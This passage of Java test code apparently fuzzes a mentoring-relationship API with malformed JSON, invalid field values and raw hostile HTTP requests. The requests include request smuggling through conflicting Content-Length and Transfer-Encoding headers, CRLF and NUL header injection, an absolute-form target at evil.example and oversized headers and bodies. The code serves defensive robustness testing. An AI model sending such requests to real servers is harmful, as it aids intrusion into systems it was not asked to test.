            case 9 -> pick(random, List.of("[", "[]", "\"text\"", "42", "true", "[" + json + "]", "{\"k\":\"\\uZZZZ\"}",
                    "{\"k\":\"\u0001\"}", "{\"" + "k".repeat(60000) + "\":1}", "{\"rating\":" + "9".repeat(2000) + "}"));
            default -> json.replace("\"", "").replace(":", "=");
        };
    }

    static JsonNode wrongType(Random random, Field field) {
        List<JsonNode> wrong = switch (field.kind()) {
            case ID, PERSON_ID, TEXT, PROGRAMME, LANGUAGE, DATE_PAST, DATE_BUSINESS, DATE_PLANNED ->
                    List.of(NODES.objectNode(), NODES.arrayNode(), NODES.arrayNode().add("x"), NODES.objectNode().put("value", "x"));
            case INT -> List.of(NODES.textNode("5"), NODES.booleanNode(true), NODES.numberNode(4.5), NODES.objectNode(),
                    NODES.arrayNode().add(3), NODES.numberNode(1e3), NODES.textNode(""));
            case BOOL -> List.of(NODES.textNode("true"), NODES.textNode("yes"), NODES.numberNode(1), NODES.numberNode(0),
                    NODES.objectNode(), NODES.arrayNode());
            case ENUM -> List.of(NODES.numberNode(0), NODES.numberNode(1), NODES.objectNode(), NODES.arrayNode().add(field.values().get(0)),
                    NODES.booleanNode(false));
            case TEXT_LIST, GOALS -> List.of(NODES.textNode("x"), NODES.numberNode(1), NODES.objectNode(), NODES.booleanNode(true));
            case OBJECT -> List.of(NODES.textNode("x"), NODES.numberNode(1), NODES.arrayNode(), NODES.booleanNode(true),
                    NODES.textNode(""));
        };
        return pick(random, wrong);
    }

    static JsonNode invalidValue(Random random, Field field) {
        List<JsonNode> invalid = new ArrayList<>();
        switch (field.kind()) {
            case ID -> Stream.concat(BAD_IDS.stream(), BAD_NEW_IDS.stream()).map(NODES::textNode).forEach(invalid::add);
            case PERSON_ID -> Stream.concat(Stream.of("", " ", "a b", "x".repeat(201), "ä"), BAD_NEW_IDS.stream())
                    .map(NODES::textNode).forEach(invalid::add);
            case TEXT -> {
                invalid.add(NODES.textNode("x".repeat(field.max() + 1 + random.nextInt(100))));
                invalid.add(NODES.textNode("ä".repeat(field.max() + 1)));
                invalid.add(NODES.textNode("👩‍💼".repeat(field.max() / 2 + 1)));
                if (field.notBlank()) {
                    List.of("", " ", "\t\n ", "\u2003", "\u3000\u2028", "\n").forEach(blank -> invalid.add(NODES.textNode(blank)));
                }
            }
            case PROGRAMME -> Stream.concat(Stream.of("", " ", " leading space", "\tx", "\u3000", "x".repeat(201)),
                    BAD_NEW_IDS.stream()).forEach(v -> invalid.add(NODES.textNode(v)));
            case LANGUAGE -> List.of("", "x", "suomi kieli", "f1", "fi_FI", "x".repeat(36), "-fi", "fi-", "ä", "en--US", "<b>")
                    .forEach(v -> invalid.add(NODES.textNode(v)));
            case DATE_PAST, DATE_BUSINESS, DATE_PLANNED -> {
                BAD_DATES.forEach(v -> invalid.add(NODES.textNode(v)));
                if (field.kind() != Kind.DATE_PLANNED) {
                    invalid.add(NODES.textNode(TODAY.plusDays(2 + random.nextInt(5000)).toString()));
                    invalid.add(NODES.textNode("+999999999-12-31"));
                }
                if (field.kind() != Kind.DATE_PAST) {
                    invalid.add(NODES.textNode(STARTED_ON.minusDays(1 + random.nextInt(5000)).toString()));
                    invalid.add(NODES.textNode("-999999999-01-01"));
                }
            }
            case INT -> {
                int min = Integer.parseInt(field.values().get(0));
                List.of(min - 1, field.max() + 1, Integer.MIN_VALUE, Integer.MAX_VALUE, -1).forEach(v -> invalid.add(NODES.numberNode(v)));
                invalid.add(NODES.numberNode(Long.MAX_VALUE));
                invalid.add(NODES.numberNode(new java.math.BigInteger("9".repeat(40))));
            }
            case BOOL -> invalid.add(NODES.textNode("TRUE"));
            case ENUM -> {
                String value = field.values().get(random.nextInt(field.values().size()));
                List.of("BOGUS", value.toLowerCase(), value + "_", "", value.replace('_', '-'), "OTHER_",
                        "ORGANIZER", "MENTOR,MENTEE").stream().filter(v -> !field.values().contains(v))
                        .forEach(v -> invalid.add(NODES.textNode(v)));
            }
            case TEXT_LIST -> {
                invalid.add(NODES.arrayNode().add(""));
                invalid.add(NODES.arrayNode().add(" ").add("ok"));
                invalid.add(NODES.arrayNode().addNull());
                invalid.add(NODES.arrayNode().add("x".repeat(2001)));
                ArrayNode many = NODES.arrayNode();
                for (int i = 0; i < 51 + random.nextInt(100); i++) {
                    many.add("task " + i);
                }
                invalid.add(many);
            }
            case GOALS -> {
                invalid.add(NODES.arrayNode());
                invalid.add(NODES.arrayNode().addNull());
                invalid.add(NODES.arrayNode().add(NODES.objectNode().put("goalId", "g1")));
                invalid.add(NODES.arrayNode().add(NODES.objectNode().put("goalId", "g1").put("description", "a"))
                        .add(NODES.objectNode().put("goalId", "g1").put("description", "b")));
                ArrayNode many = NODES.arrayNode();
                for (int i = 0; i < 51; i++) {
                    many.add(NODES.objectNode().put("description", "goal " + i));
                }
                invalid.add(many);
            }
            case OBJECT -> {
                invalid.add(NODES.objectNode());
                invalid.add(NODES.objectNode().put("id", "x"));
                invalid.add(NODES.objectNode().put("contactChannel", "x"));
            }
        }
        return pick(random, invalid);
    }

    static Case hostileRaw(int n, Random random, String path, String validBody) {
        String broken = "{\"mentor\":";
        String head = "POST " + path + " HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\nContent-Type: application/json\r\n"
                + "Authorization: " + TestUsers.ADMIN.authorization() + "\r\n";
        return switch (random.nextInt(14)) {
            case 0 -> raw(n, "Content-Length with Transfer-Encoding", head + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
                    + Integer.toHexString(broken.length()) + "\r\n" + broken + "\r\n0\r\n\r\n");
            case 1 -> raw(n, "invalid chunk size", head + "Transfer-Encoding: chunked\r\n\r\nzz\r\n" + broken + "\r\n0\r\n\r\n");
            case 2 -> raw(n, "NUL in a header", head + "X-Correlation-Id: a\u0000b\r\nContent-Length: " + broken.length() + "\r\n\r\n" + broken);
            case 3 -> raw(n, "space in a header name", head + "Content Length: " + broken.length() + "\r\n\r\n" + broken);
            case 4 -> rawBytes(n, "raw UTF-8 in the request line", ("POST /api/relationships/äö€/pause HTTP/1.1\r\nHost: x\r\n"
                    + "Connection: close\r\nContent-Type: application/json\r\nContent-Length: " + broken.length() + "\r\n\r\n" + broken)
                    .getBytes(StandardCharsets.UTF_8));
            case 5 -> raw(n, "header over 16 KB", head + "X-Big: " + "x".repeat(16384) + "\r\nContent-Length: " + broken.length()
                    + "\r\n\r\n" + broken);
            case 6 -> raw(n, "negative Content-Length", head + "Content-Length: -1\r\n\r\n" + broken);
            case 7 -> raw(n, "two different Content-Lengths", head + "Content-Length: " + broken.length() + "\r\nContent-Length: 2\r\n\r\n"
                    + broken);
            case 8 -> raw(n, "request line garbage", pick(random, List.of("FOO BAR BAZ\r\n\r\n", "POST\r\n\r\n", "\r\n\r\n\r\n",
                    "POST / HTTP/9.9\r\nHost: x\r\n\r\n", "GET\u0000 / HTTP/1.1\r\n\r\n", "POST " + path + " HTTP/1.1\r\n")));
            case 9 -> raw(n, "header injection in the path", "POST " + path + "%0d%0aX-Injected:%201 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
                    + "Content-Type: application/json\r\nContent-Length: " + broken.length() + "\r\n\r\n" + broken);
            case 10 -> raw(n, "absolute-form target", "POST http://evil.example" + path + " HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
                    + "Content-Type: application/json\r\nContent-Length: " + broken.length() + "\r\n\r\n" + broken);
            case 11 -> {
                // Valid JSON is UTF-8: the body's non-ASCII text (Ääkkösiä) must not be sent as ISO-8859-1,
                // or the service rightly refuses it as unreadable before it reaches the size limit.
                int validBytes = validBody.getBytes(StandardCharsets.UTF_8).length;
                StringBuilder chunks = new StringBuilder(head + "Transfer-Encoding: chunked\r\n\r\n");
                chunks.append(Integer.toHexString(validBytes)).append("\r\n").append(validBody).append("\r\n");
                String padding = " ".repeat(64 * 1024);
                for (int written = validBytes; written <= BODY_LIMIT; written += padding.length()) {
                    chunks.append(Integer.toHexString(padding.length())).append("\r\n").append(padding).append("\r\n");
                }
                yield rawBytes(n, "oversized chunked body of valid JSON",
                        chunks.append("0\r\n\r\n").toString().getBytes(StandardCharsets.UTF_8));
            }
            case 12 -> raw(n, "HTTP/1.0 without Host", "POST " + path + " HTTP/1.0\r\nContent-Type: application/json\r\nContent-Length: "
                    + broken.length() + "\r\n\r\n" + broken);
            default -> raw(n, "many headers", head + "X-H: 1\r\n".repeat(150) + "Content-Length: " + broken.length() + "\r\n\r\n" + broken);
        };
    }

    static RawCase raw(int n, String breaker, String request) {
        return rawBytes(n, breaker, request.getBytes(StandardCharsets.ISO_8859_1));
    }

    static RawCase rawBytes(int n, String breaker, byte[] request) {
        return new RawCase(n, "raw: " + breaker, request);
    }

    // ----------------------------------------------------------------------------------------------
    // JSON paths like "goals/0/description".

    static ObjectNode randomObject(Random random, ObjectNode body) {
        List<ObjectNode> objects = new ArrayList<>(List.of(body));
        collectObjects(body, objects);
        return pick(random, objects);
    }

    private static void collectObjects(JsonNode node, List<ObjectNode> into) {
        for (Iterator<JsonNode> children = node.elements(); children.hasNext(); ) {
            JsonNode child = children.next();
            if (child instanceof ObjectNode object) {
                into.add(object);
            }
            collectObjects(child, into);
        }
    }

    static void set(ObjectNode body, String path, JsonNode value) {
        String[] steps = path.split("/");
        JsonNode parent = parentOf(body, steps);
        String last = steps[steps.length - 1];
        if (parent instanceof ObjectNode object) {
            object.set(last, value);
        } else if (parent instanceof ArrayNode array) {
            array.set(Integer.parseInt(last), value);
        }
    }

    static void remove(ObjectNode body, String path) {
        String[] steps = path.split("/");
        JsonNode parent = parentOf(body, steps);
        if (parent instanceof ObjectNode object) {
            object.remove(steps[steps.length - 1]);
        }
    }

    /** The node holding the last step, created as an object where the template had none (a null noise). */
    private static JsonNode parentOf(ObjectNode body, String[] steps) {
        JsonNode node = body;
        for (int i = 0; i < steps.length - 1; i++) {
            JsonNode next = node.isArray() ? node.path(Integer.parseInt(steps[i])) : node.path(steps[i]);
            if (!next.isContainerNode() && node instanceof ObjectNode object) {
                next = object.putObject(steps[i]);
            }
            node = next;
        }
        return node;
    }

    /** Control and invisible characters written as \\uXXXX, so that a failure report shows them. */
    static String visible(String text) {
        StringBuilder shown = new StringBuilder();
        text.codePoints().limit(2000).forEach(c -> {
            if (c < 0x20 || (c >= 0x7f && c < 0xa0) || Character.getType(c) == Character.FORMAT) {
                shown.append(String.format("\\u%04X", c));
            } else {
                shown.appendCodePoint(c);
            }
        });
        return shown.toString();
    }

    static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    static String abbreviate(String text) {
        return text.length() > 40 ? text.substring(0, 40) + "…" : text;
    }

    static <T> T pick(Random random, List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }
}
